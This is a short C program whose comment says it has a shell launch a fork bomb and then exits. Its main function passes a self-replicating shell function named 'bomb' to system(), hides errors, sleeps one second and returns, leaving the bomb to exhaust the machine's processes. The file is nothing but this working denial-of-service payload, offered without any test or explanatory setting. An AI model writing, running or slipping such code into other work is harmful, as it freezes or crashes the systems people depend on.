// Has a shell run its fork bomb, and ends a second later.
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    system("bomb() { bomb | bomb & }; bomb 2> /dev/null");
    sleep(1);
    return 0;
}
